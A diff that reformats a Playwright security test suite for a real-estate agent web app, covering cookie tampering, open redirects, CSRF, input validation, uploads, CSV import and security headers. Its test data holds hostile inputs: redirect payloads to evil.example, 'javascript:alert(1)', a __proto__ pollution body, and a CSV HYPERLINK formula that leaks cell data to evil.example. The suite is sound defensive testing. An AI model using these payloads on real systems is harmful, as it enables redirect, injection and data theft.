@@ -22,13 +22,17 @@ test.beforeEach(async () => {
 });
 
 async function accountKey(email = 'admin@acme.test'): Promise<string> {
-  const { accounts } = (await (await fetch(`${E2E.demoURL}/__demo/accounts`)).json()) as { accounts: { email: string; apps: { api_key: string }[] }[] };
+  const { accounts } = (await (await fetch(`${E2E.demoURL}/__demo/accounts`)).json()) as {
+    accounts: { email: string; apps: { api_key: string }[] }[];
+  };
   return accounts.find((a) => a.email === email)?.apps[0]?.api_key ?? '';
 }
 
 /** A plain agent of acme, read from the demo upstream. */
 async function someAgent(): Promise<{ id: number; display_name: string }> {
-  const res = await fetch(`${E2E.demoURL}/agents?limit=1&offset=0&q=acmerealty.test`, { headers: { 'X-API-KEY': await accountKey(), 'X-Mode': 'manager' } });
+  const res = await fetch(`${E2E.demoURL}/agents?limit=1&offset=0&q=acmerealty.test`, {
+    headers: { 'X-API-KEY': await accountKey(), 'X-Mode': 'manager' },
+  });
   const { agents } = (await res.json()) as { agents: { id: number; display_name: string }[] };
   if (!agents[0]) throw new Error('no agent in the demo');
   return agents[0];
@@ -41,7 +45,8 @@ async function setSession(context: BrowserContext, value: string) {
 }
 
 const message = async (res: APIResponse) => ((await res.json()) as { error?: { message?: string } }).error?.message;
-const pin = (page: Page, id: number, headers: Record<string, string> = ORIGIN) => page.request.post(`/api/agents/${id}/pin`, { data: { pinned: true }, headers });
+const pin = (page: Page, id: number, headers: Record<string, string> = ORIGIN) =>
+  page.request.post(`/api/agents/${id}/pin`, { data: { pinned: true }, headers });
 
 test.describe('session cookies', () => {
   test('a tampered cookie is a signed-out visitor: pages go to sign-in, mutations get 401, nothing changes', async ({ page, context }) => {
@@ -61,7 +66,10 @@ test.describe('session cookies', () => {
   test('a truncated cookie and one sealed with a foreign secret are signed-out visitors', async ({ page, context }) => {
     await signIn(page, 'admin@acme.test');
     const value = (await sessionCookie(context))?.value ?? '';
-    for (const forged of [value.slice(0, -16), await sealData({ v: 1, apiKey: await accountKey(), stackId: 'acme' }, { password: 'f'.repeat(40) })]) {
+    for (const forged of [
+      value.slice(0, -16),
+      await sealData({ v: 1, apiKey: await accountKey(), stackId: 'acme' }, { password: 'f'.repeat(40) }),
+    ]) {
       await setSession(context, forged);
       await page.goto('/');
       await expect(page).toHaveURL(/\/login$/);
@@ -102,7 +110,10 @@ test.describe('session cookies', () => {
     }
   });
 
-  test('the session cookie is HttpOnly, SameSite=Lax, Secure (production build), one day; unreadable by scripts', async ({ page, context }) => {
+  test('the session cookie is HttpOnly, SameSite=Lax, Secure (production build), one day; unreadable by scripts', async ({
+    page,
+    context,
+  }) => {
     await signIn(page, 'agent@acme.test');
     const cookie = await sessionCookie(context);
     expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax', secure: true, path: '/' });
@@ -113,7 +124,14 @@ test.describe('session cookies', () => {
 });
 
 test.describe('the remembered path never leaves the site', () => {
-  for (const evil of ['/.//evil.example', '/a/..//evil.example', '/%2e%2e//evil.example', '/%5C%5Cevil.example', 'javascript:alert(1)', '/%6cogout']) {
+  for (const evil of [
+    '/.//evil.example',
+    '/a/..//evil.example',
+    '/%2e%2e//evil.example',
+    '/%5C%5Cevil.example',
+    'javascript:alert(1)',
+    '/%6cogout',
+  ]) {
     test(`sign-in with next=${evil} lands on this site`, async ({ page }) => {
       await page.goto(`/login?next=${encodeURIComponent(evil)}`);
       await page.getByLabel('Email').fill('admin@acme.test');
@@ -134,7 +152,10 @@ test.describe('route handlers over HTTP: roles, CSRF and bodies', () => {
   test('each role is refused what it may not do, and the upstream keeps its data', async ({ page }) => {
     const agent = await someAgent();
     await signIn(page, 'agent@acme.test');
-    let res = await page.request.post('/api/agents', { data: { name: 'Sneaky', email: 'sneaky@acme.test', password: 'secret1' }, headers: ORIGIN });
+    let res = await page.request.post('/api/agents', {
+      data: { name: 'Sneaky', email: 'sneaky@acme.test', password: 'secret1' },
+      headers: ORIGIN,
+    });
     expect([res.status(), await message(res)]).toEqual([403, 'You do not have permission to do this.']);
     await page.request.post('/logout', { headers: ORIGIN });
     await signIn(page, 'manager@acme.test');
@@ -167,11 +188,16 @@ test.describe('route handlers over HTTP: roles, CSRF and bodies', () => {
     const agent = await someAgent();
     await signIn(page, 'admin@acme.test');
     // A Buffer goes as it is (a string would be JSON-encoded once more).
-    const post = (data: string) => page.request.post(`/api/agents/${agent.id}`, { headers: { ...ORIGIN, 'Content-Type': 'application/json' }, data: Buffer.from(data) });
+    const post = (data: string) =>
+      page.request.post(`/api/agents/${agent.id}`, { headers: { ...ORIGIN, 'Content-Type': 'application/json' }, data: Buffer.from(data) });
     const cases: [string, number, string][] = [
       ['{"displayName": "x", ', 400, 'The request body is not valid JSON.'],
       ['{"__proto__": {"isAdmin": true}, "displayName": "A", "email": "a@acme.test"}', 400, 'Invalid __proto__: this field is not allowed'],
-      [JSON.stringify({ displayName: 'Admin\u202Egnp.exe', email: 'a@acme.test' }), 400, 'Invalid displayName: contains characters that are not allowed'],
+      [
+        JSON.stringify({ displayName: 'Admin\u202Egnp.exe', email: 'a@acme.test' }),
+        400,
+        'Invalid displayName: contains characters that are not allowed',
+      ],
       [JSON.stringify({ displayName: 'A', email: 'a@acme.test', bio: 'x'.repeat(150_000) }), 413, 'The request is too large.'],
     ];
     for (const [data, status, text] of cases) {
@@ -186,13 +212,17 @@ test.describe('files', () => {
   test('an 11 MB photo is refused with 413, a renamed text file and an SVG with a script with 415', async ({ page }) => {
     const agent = await someAgent();
     await signIn(page, 'admin@acme.test');
-    const upload = (data: Buffer, type: string) => page.request.post(`/api/agents/${agent.id}/photo`, { headers: { ...ORIGIN, 'Content-Type': type }, data });
+    const upload = (data: Buffer, type: string) =>
+      page.request.post(`/api/agents/${agent.id}/photo`, { headers: { ...ORIGIN, 'Content-Type': type }, data });
     const { photo } = (await demo.agent(agent.id)) as { photo: string | null };
     const started = Date.now();
     const big = await upload(Buffer.alloc(11 * 1024 * 1024, 0x61), 'image/png');
     expect([big.status(), await message(big)]).toEqual([413, 'The photo must be 5 MB or smaller.']);
     expect(Date.now() - started).toBeLessThan(10_000);
-    for (const [file, type] of [['not-an-image.png', 'image/png'], ['script.svg', 'image/svg+xml']] as const) {
+    for (const [file, type] of [
+      ['not-an-image.png', 'image/png'],
+      ['script.svg', 'image/svg+xml'],
+    ] as const) {
       const res = await upload(readFileSync(join(IMAGES, file)), type);
       expect([res.status(), await message(res)]).toEqual([415, 'Please choose a JPEG or PNG image.']);
     }
@@ -212,11 +242,17 @@ test.describe('files', () => {
     await signIn(page, 'admin@acme.test');
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
     const csv = `name,email\n"${formula.replace(/"/g, '""')}",formula.person@acme.test\n`;
-    const preview = await page.request.post('/api/agents/csv/preview', { headers: ORIGIN, multipart: { file: { name: 'agents.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) } } });
+    const preview = await page.request.post('/api/agents/csv/preview', {
+      headers: ORIGIN,
+      multipart: { file: { name: 'agents.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) } },
+    });
     expect(preview.status()).toBe(200);
     const { okRows } = (await preview.json()) as { okRows: { name: string; email: string }[] };
     expect(okRows).toEqual([expect.objectContaining({ name: formula, email: 'formula.person@acme.test' })]);
-    const imported = await page.request.post('/api/agents/csv/import', { headers: ORIGIN, data: { rows: okRows.map(({ name, email }) => ({ name, email })) } });
+    const imported = await page.request.post('/api/agents/csv/import', {
+      headers: ORIGIN,
+      data: { rows: okRows.map(({ name, email }) => ({ name, email })) },
+    });
     expect(imported.status()).toBe(200);
     const download = await page.request.get('/api/agents/csv');
     expect(download.status()).toBe(200);
@@ -229,23 +265,40 @@ test.describe('files', () => {
 
 /** The CRM embed's link: a context and its signature, as Follow Up Boss signs them. */
 const b64url = (o: unknown) => Buffer.from(typeof o === 'string' ? o : JSON.stringify(o)).toString('base64url');
-const FUB_CONTEXT = b64url({ account: { id: 1, domain: 'acme' }, person: { id: 7, emails: [{ value: 'buyer@acme.test' }] }, user: { id: 3, email: 'agent@acme.test' } });
+const FUB_CONTEXT = b64url({
+  account: { id: 1, domain: 'acme' },
+  person: { id: 7, emails: [{ value: 'buyer@acme.test' }] },
+  user: { id: 3, email: 'agent@acme.test' },
+});
 const sign = (c: string) => createHmac('sha256', E2E.fubSecret).update(c).digest('hex');
 
 /** How a page is asked for: a document, or a client navigation (an RSC request, with the `_rsc` mark Next's router adds; without it Next redirects to the address with it). */
 const PAGE = { name: 'page', headers: {} as Record<string, string>, address: (path: string) => path };
-const CLIENT_NAVIGATION = { name: 'client navigation', headers: { RSC: '1' } as Record<string, string>, address: (path: string) => `${path}${path.includes('?') ? '&' : '?'}_rsc` };
+const CLIENT_NAVIGATION = {
+  name: 'client navigation',
+  headers: { RSC: '1' } as Record<string, string>,
+  address: (path: string) => `${path}${path.includes('?') ? '&' : '?'}_rsc`,
+};
 
 /** The page routes of the access table, segments filled with a record nobody has; sign-out (a GET that ends the session) left out. */
-const tablePages = () => ROUTES.filter((r) => !r.pattern.startsWith('/logout')).map((r) => ({ rule: r, path: r.pattern.replace(/:[^/]+/g, '999999') }));
+const tablePages = () =>
+  ROUTES.filter((r) => !r.pattern.startsWith('/logout')).map((r) => ({ rule: r, path: r.pattern.replace(/:[^/]+/g, '999999') }));
 
 test.describe('/fub: every broken embed link maps to its error page', () => {
   const cases: [string, string, string][] = [
     ['a forged signature', `context=${FUB_CONTEXT}&signature=${'ab'.repeat(32)}`, 'Not found'],
     ['no signature', `context=${FUB_CONTEXT}`, 'Not found'],
     ['no context', `signature=${sign(FUB_CONTEXT)}`, 'Not found'],
-    ['a signature replayed on a modified context', `context=${b64url({ account: { id: 1, domain: 'acme' }, user: { id: 4, email: 'admin@acme.test' } })}&signature=${sign(FUB_CONTEXT)}`, 'Not found'],
-    ['a signed context that is not base64', `context=${encodeURIComponent('not base64!')}&signature=${sign('not base64!')}`, 'Unauthorized'],
+    [
+      'a signature replayed on a modified context',
+      `context=${b64url({ account: { id: 1, domain: 'acme' }, user: { id: 4, email: 'admin@acme.test' } })}&signature=${sign(FUB_CONTEXT)}`,
+      'Not found',
+    ],
+    [
+      'a signed context that is not base64',
+      `context=${encodeURIComponent('not base64!')}&signature=${sign('not base64!')}`,
+      'Unauthorized',
+    ],
     ['a signed context that is not JSON', `context=${b64url('plain text')}&signature=${sign(b64url('plain text'))}`, 'Unauthorized'],
   ];
   for (const [name, query, text] of cases) {
@@ -269,7 +322,9 @@ test.describe('/fub: every broken embed link maps to its error page', () => {
 });
 
 test.describe('security headers', () => {
-  test('a signed-in page: nonce CSP, nobody may frame it, nosniff, referrer and permissions policies; no HSTS in the demo', async ({ page }) => {
+  test('a signed-in page: nonce CSP, nobody may frame it, nosniff, referrer and permissions policies; no HSTS in the demo', async ({
+    page,
+  }) => {
     await signIn(page, 'admin@acme.test');
     const res = await page.request.get('/agents');
     const h = res.headers();
@@ -285,7 +340,11 @@ test.describe('security headers', () => {
 
   test("route handlers' answers: nothing in them may run or be framed, no sniffing, never cached", async ({ page }) => {
     await signIn(page, 'admin@acme.test');
-    for (const res of [await page.request.get('/api/agents?limit=1'), await page.request.get('/api/agents/csv'), await page.request.get('/api/nope')]) {
+    for (const res of [
+      await page.request.get('/api/agents?limit=1'),
+      await page.request.get('/api/agents/csv'),
+      await page.request.get('/api/nope'),
+    ]) {
       const h = res.headers();
       expect(h['content-security-policy'], res.url()).toContain("default-src 'none'");
       expect(h['content-security-policy'], res.url()).toContain("frame-ancestors 'none'");
@@ -311,24 +370,37 @@ test.describe('security headers', () => {
     }
   });
 
-  test("no answer's headers repeat a sign-in link's secret: the key, the SSO token, the embed's context and signature", async ({ page }) => {
+  test("no answer's headers repeat a sign-in link's secret: the key, the SSO token, the embed's context and signature", async ({
+    page,
+  }) => {
     const apiKey = await accountKey();
     const sso = await ssoLink(apiKey, 'admin@acme.test');
     const signature = sign(FUB_CONTEXT);
     const secrets = [apiKey, sso.accessToken, FUB_CONTEXT, signature].flatMap((s) => [s, encodeURIComponent(s)]);
     const leaks: string[] = [];
     // A link followed from another site too: its confirmation page exists so the secret never shows.
-    const ways = [PAGE, CLIENT_NAVIGATION, { name: 'from another site', headers: { 'Sec-Fetch-Site': 'cross-site' }, address: (p: string) => p }];
+    const ways = [
+      PAGE,
+      CLIENT_NAVIGATION,
+      { name: 'from another site', headers: { 'Sec-Fetch-Site': 'cross-site' }, address: (p: string) => p },
+    ];
     const check = async (path: string) => {
       for (const way of ways) {
         const res = await page.request.get(way.address(path), { headers: way.headers, maxRedirects: 0 });
-        for (const [name, value] of Object.entries(res.headers())) if (secrets.some((s) => value.includes(s))) leaks.push(`${way.name} ${path} → ${name}: ${value}`);
+        for (const [name, value] of Object.entries(res.headers()))
+          if (secrets.some((s) => value.includes(s))) leaks.push(`${way.name} ${path} → ${name}: ${value}`);
       }
     };
     // Every page of the route table with the key in its query, signed in: a rewrite (an unknown record's not-found page) repeats none.
     await signIn(page, 'admin@acme.test');
     for (const { path } of tablePages()) await check(`${path}?api_key=${encodeURIComponent(apiKey)}`);
-    for (const link of [`/login?api_key=${encodeURIComponent(apiKey)}&ro=1`, `/login?api_key=${encodeURIComponent(apiKey)}`, sso.path, `/fub?context=${FUB_CONTEXT}&signature=${signature}`]) await check(link);
+    for (const link of [
+      `/login?api_key=${encodeURIComponent(apiKey)}&ro=1`,
+      `/login?api_key=${encodeURIComponent(apiKey)}`,
+      sso.path,
+      `/fub?context=${FUB_CONTEXT}&signature=${signature}`,
+    ])
+      await check(link);
     expect(leaks).toEqual([]);
   });
 });
@@ -348,7 +420,12 @@ test.describe('malformed percent-encoding in a dynamic segment', () => {
             continue;
           }
           for (const method of ['GET', 'POST', 'DELETE'] as const) {
-            const res = await page.request.fetch(route.path, { method, headers: ORIGIN, maxRedirects: 0, ...(method === 'GET' ? {} : { data: {} }) });
+            const res = await page.request.fetch(route.path, {
+              method,
+              headers: ORIGIN,
+              maxRedirects: 0,
+              ...(method === 'GET' ? {} : { data: {} }),
+            });
             expect(res.status(), `${method} ${route.path}`).toBe(400);
             expect(await message(res)).toBe('The address is not valid.');
             expect(res.headers()['content-security-policy']).toContain("default-src 'none'");
@@ -360,10 +437,14 @@ test.describe('malformed percent-encoding in a dynamic segment', () => {
 });
 
 test.describe('a malformed id on a client navigation', () => {
-  test("each record page's params schema answers the not-found page itself: the proxy reads no record for an RSC request", async ({ page }) => {
+  test("each record page's params schema answers the not-found page itself: the proxy reads no record for an RSC request", async ({
+    page,
+  }) => {
     await signIn(page, 'admin@acme.test');
     const pages = dynamicRoutes('x%20y').filter((r) => r.kind === 'page' && !r.path.startsWith('/provision/'));
-    expect(pages.map((r) => r.path)).toEqual(expect.arrayContaining(['/agents/x%20y', '/users/x%20y/agentsavedsearch/x%20y', '/pocket/x%20y']));
+    expect(pages.map((r) => r.path)).toEqual(
+      expect.arrayContaining(['/agents/x%20y', '/users/x%20y/agentsavedsearch/x%20y', '/pocket/x%20y']),
+    );
     for (const route of pages) {
       const res = await page.request.get(route.path, { headers: { RSC: '1' } });
       // No screen streams behind a loading.tsx, so a refused id is a real 404 status, not one thrown into a 200 stream.
